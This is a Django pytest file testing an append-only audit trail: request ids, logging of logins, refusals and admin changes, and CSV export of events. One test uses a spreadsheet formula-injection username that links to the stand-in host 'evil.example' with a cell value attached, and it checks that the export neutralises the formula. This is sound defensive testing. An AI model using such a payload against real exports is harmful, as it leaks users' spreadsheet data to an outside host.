"""The audit trail: append-only in the database, a request id per request, logins, refusals, admin actions."""

import csv
import io

import pytest
from django.db import DatabaseError, connection, transaction
from django.test.utils import CaptureQueriesContext

from accounts.audit import Action, AuditEvent, Outcome, record
from accounts.models import Role
from tests import factories
from tests.support.logins import log_in_with_second_factor

pytestmark = pytest.mark.django_db


@pytest.fixture
def event(reference_data):
    return record(Action.VIEW_CASELOAD, by=factories.user(Role.CLINICIAN))


def test_the_database_refuses_to_update_an_audit_event(event):
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
        AuditEvent.objects.filter(pk=event.pk).update(outcome=Outcome.FAILED)
    assert AuditEvent.objects.get(pk=event.pk).outcome == Outcome.DONE


def test_the_database_refuses_to_delete_an_audit_event(event):
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
        AuditEvent.objects.filter(pk=event.pk).delete()
    assert AuditEvent.objects.filter(pk=event.pk).exists()


def test_raw_sql_cannot_change_an_audit_event_either(event):
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("UPDATE accounts_auditevent SET username = 'someone else' WHERE id = %s", [event.pk])


def test_an_event_keeps_the_users_name_and_role_at_the_time(event):
    assert event.username.startswith("user") and event.role == Role.CLINICIAN


def test_every_response_carries_a_request_id_shared_by_its_audit_events(client, reference_data):
    response = client.post("/accounts/login/", {"username": "nobody", "password": "wrong-password-123"})
    request_id = response["X-Request-ID"]
    assert len(request_id) == 36
    failed = AuditEvent.objects.get(action=Action.LOGIN_FAILED)
    assert failed.request_id == request_id and failed.username == "nobody"
    assert failed.outcome == Outcome.REFUSED and failed.user is None


def test_login_and_logout_are_recorded(client, reference_data):
    user = factories.user(Role.CLINICIAN)
    client.post("/accounts/login/", {"username": user.username, "password": "a-long-test-password"})
    client.post("/accounts/logout/")
    assert list(AuditEvent.objects.filter(user=user).order_by("pk").values_list("action", flat=True)) == [
        Action.LOGIN,
        Action.LOGOUT,
    ]


def test_a_case_outside_the_users_scope_is_a_recorded_refusal(client, service):
    case = factories.case(service["team_b"])
    client.force_login(service["clinician"])
    assert client.get(f"/cases/{case.pk}/").status_code == 404
    refused = AuditEvent.objects.get(action=Action.ACCESS_REFUSED)
    assert refused.case_id == case.pk and refused.outcome == Outcome.REFUSED
    assert refused.object_type == "page:assessments:case_detail"
    assert refused.user == service["clinician"]


def test_a_commissioner_refused_a_case_page_is_recorded(client, service):
    case = factories.case(service["team_a"])
    client.force_login(factories.user(Role.COMMISSIONER, commissioner=service["commissioner"]))
    assert client.get(f"/cases/{case.pk}/").status_code == 403
    assert AuditEvent.objects.get(action=Action.ACCESS_REFUSED).case_id == case.pk


@pytest.fixture
def admin_client(client, reference_data):
    log_in_with_second_factor(client, factories.user(Role.ADMINISTRATOR, is_staff=True, is_superuser=True))
    return client


def test_an_admin_change_is_recorded_with_the_names_of_changed_fields_only(admin_client):
    provider = factories.provider(name="Old name")
    response = admin_client.post(
        f"/admin/accounts/provider/{provider.pk}/change/", {"code": provider.code, "name": "New name"}
    )
    assert response.status_code == 302
    event = AuditEvent.objects.get(action=Action.ADMIN_CHANGE)
    assert (event.object_type, event.object_id) == ("accounts.provider", str(provider.pk))
    assert event.changed_fields == ["Name"]
    assert "New name" not in str(event.changed_fields)


def test_an_admin_bulk_delete_records_each_deleted_object(admin_client):
    teams = [factories.team() for _ in range(2)]
    response = admin_client.post(
        "/admin/accounts/team/",
        {"action": "delete_selected", "_selected_action": [t.pk for t in teams], "post": "yes"},
    )
    assert response.status_code == 302
    deleted = AuditEvent.objects.filter(action=Action.ADMIN_DELETE, object_type="accounts.team")
    assert sorted(deleted.values_list("object_id", flat=True)) == sorted(str(t.pk) for t in teams)


def test_administrators_export_the_trail_as_csv_and_the_export_is_recorded(admin_client):
    record(Action.VIEW_CASELOAD, by=None)
    ids = list(AuditEvent.objects.values_list("pk", flat=True))
    response = admin_client.post(
        "/admin/accounts/auditevent/", {"action": "export_csv", "_selected_action": ids}
    )
    assert response["Content-Type"] == "text/csv"
    lines = response.content.decode().splitlines()
    assert lines[0].startswith("at,username,role,action")
    assert any("view_caseload" in line for line in lines[1:])
    assert AuditEvent.objects.filter(action=Action.EXPORT_AUDIT).exists()


def test_a_user_name_typed_as_a_formula_at_login_is_exported_neutralised(client, admin_client):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    client.post("/accounts/login/", {"username": formula, "password": "wrong"})
    ids = list(AuditEvent.objects.filter(action=Action.LOGIN_FAILED).values_list("pk", flat=True))
    response = admin_client.post(
        "/admin/accounts/auditevent/", {"action": "export_csv", "_selected_action": ids}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["username"] for row in rows] == ["'" + formula]


def test_nobody_adds_changes_or_deletes_audit_events_in_the_admin(admin_client):
    event = record(Action.VIEW_CASELOAD, by=None)
    assert admin_client.get("/admin/accounts/auditevent/").status_code == 200
    assert admin_client.get("/admin/accounts/auditevent/add/").status_code == 403
    assert admin_client.get(f"/admin/accounts/auditevent/{event.pk}/delete/").status_code == 403
    page = admin_client.get(f"/admin/accounts/auditevent/{event.pk}/change/").content.decode()
    assert 'name="action"' not in page


def test_a_filtered_audit_list_does_not_count_the_whole_trail_too(admin_client):
    record(Action.VIEW_CASELOAD, by=None)
    with CaptureQueriesContext(connection) as queries:
        page = admin_client.get("/admin/accounts/auditevent/", {"action__exact": Action.VIEW_CASELOAD})
    assert page.status_code == 200 and page.context["cl"].result_count == 1
    counts = [
        q["sql"]
        for q in queries.captured_queries
        if "COUNT(*)" in q["sql"] and "accounts_auditevent" in q["sql"]
    ]
    assert counts and all("WHERE" in sql for sql in counts)


def test_opening_a_form_page_of_a_case_is_recorded_as_a_view_of_it(client, service):
    case = factories.case(service["team_a"])
    client.force_login(service["clinician"])
    assert client.get(f"/cases/{case.pk}/contacts/new/").status_code == 200
    event = AuditEvent.objects.get(action=Action.VIEW_CASE)
    assert (event.case_id, event.object_type) == (case.pk, "page:assessments:contact_create")
    assert client.get(f"/cases/{case.pk}/").status_code == 200
    assert AuditEvent.objects.filter(action=Action.VIEW_CASE).count() == 2  # the case page records its own
